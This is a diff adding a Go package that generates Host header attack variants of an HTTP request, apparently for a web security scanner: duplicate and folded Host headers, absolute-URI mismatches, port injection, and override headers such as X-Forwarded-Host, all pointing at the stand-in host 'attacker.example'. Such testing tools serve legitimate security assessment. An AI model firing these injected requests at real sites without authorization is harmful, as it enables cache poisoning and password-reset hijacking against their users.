@@ -0,0 +1,83 @@
+// Package hostheader generates Host header attack variants of a request and
+// compares their responses with a baseline. Every variant keeps the URL and
+// Request.IP of the base request, so all of them reach the same server
+// while claiming another host.
+package hostheader
+
+import (
+	"net/url"
+	"strings"
+
+	"github.com/vodafon/rawhttp"
+)
+
+const (
+	DefaultAttacker = "attacker.example"
+)
+
+// Variant is one generated request.
+type Variant struct {
+	// Name identifies the technique, e.g. "duplicate-host".
+	Name    string
+	Request *rawhttp.Request
+}
+
+// overrideHeaders are honoured by many proxies and frameworks instead of
+// Host.
+var overrideHeaders = []string{
+	"X-Forwarded-Host",
+	"X-Host",
+	"X-Forwarded-Server",
+	"X-HTTP-Host-Override",
+	"X-Original-Host",
+}
+
+// Generate returns the variants of base, a parsed request with its URL
+// set. attacker is the injected host, DefaultAttacker when empty. base is
+// not modified.
+func Generate(base *rawhttp.Request, attacker string) ([]Variant, error) {
+	if attacker == "" {
+		attacker = DefaultAttacker
+	}
+	uri, err := url.Parse(base.URL)
+	if err != nil {
+		return nil, err
+	}
+	if !uri.IsAbs() {
+		return nil, rawhttp.InvalidURLError
+	}
+	host := uri.Host
+	hostname := uri.Hostname()
+
+	absolute := func(h string) []byte {
+		return []byte(uri.Scheme + "://" + h + string(base.ParsedPath()))
+	}
+	withHost := func(req *rawhttp.Request, v string) *rawhttp.Request {
+		return req.WithHeader("host", []byte("Host"), []byte(v))
+	}
+
+	vs := []Variant{
+		{"attacker-host", withHost(base, attacker)},
+		{"duplicate-host", base.WithHeader("host", []byte("Host"), []byte(host)).
+			WithHeaderLine("host_dup", []byte("Host: "+attacker))},
+		{"duplicate-host-first", withHost(base, attacker).
+			WithHeaderLine("host_dup", []byte("Host: "+host))},
+		{"absolute-uri", withHost(base.WithPath(absolute(host)), attacker)},
+		{"absolute-uri-attacker", withHost(base.WithPath(absolute(attacker)), host)},
+		{"port-injection", withHost(base, hostname+":31337")},
+		{"port-payload", withHost(base, hostname+":"+attacker)},
+		{"line-wrapped", base.WithHeaderLine("host", []byte(" Host: "+attacker+"\r\nHost: "+host))},
+		{"folded", base.WithHeaderLine("host", []byte("Host: "+host+"\r\n "+attacker))},
+	}
+	for _, name := range overrideHeaders {
+		vs = append(vs, Variant{
+			Name:    "override-" + name,
+			Request: withHost(base, host).WithHeader(strings.ToLower(name), []byte(name), []byte(attacker)),
+		})
+	}
+	vs = append(vs, Variant{
+		Name:    "override-Forwarded",
+		Request: withHost(base, host).WithHeader("forwarded", []byte("Forwarded"), []byte("host="+attacker)),
+	})
+	return vs, nil
+}